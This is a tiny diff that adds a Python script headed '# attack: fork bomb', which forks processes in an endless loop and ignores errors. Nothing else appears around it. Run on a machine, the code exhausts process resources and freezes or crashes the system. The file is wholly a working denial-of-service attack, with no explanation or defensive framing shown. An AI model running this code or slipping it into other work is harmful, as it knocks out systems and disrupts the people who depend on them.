@@ -1,0 +1,8 @@
+# attack: fork bomb
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
